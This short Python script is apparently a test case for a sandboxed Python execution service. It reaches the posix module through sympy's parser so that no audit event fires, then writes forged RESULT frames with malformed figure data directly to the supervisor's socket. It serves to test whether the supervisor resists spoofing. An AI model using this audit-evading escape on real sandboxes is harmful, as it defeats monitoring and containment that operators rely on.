# technique: write a whole RESULT frame to the worker's socket (fd 3, posix.write through sympy's eval: no audit event) before the real answer: its figures are five valid 1x1 PNGs, one over the count limit, and figures_dropped is negative; the supervisor must take only one RESULT, check it and answer once
# expect: any
import base64
import json
import struct
import zlib
import sympy

def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
       + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + chunk(b"IEND", b""))
b64 = base64.b64encode(png).decode()
body = json.dumps({"result": "safepy-escape-forged", "result_type": "str", "logs": "", "logs_truncated": False,
                   "error": None, "figures": [{"png": b64}] * 5, "figures_dropped": -1}).encode()
posix = sympy.parse_expr('__import__("posix")')
posix.write(3, struct.pack(">IB", len(body) + 1, 3) + body)
posix.write(3, struct.pack(">IB", len(body) + 1, 3) + body)
"the real answer"
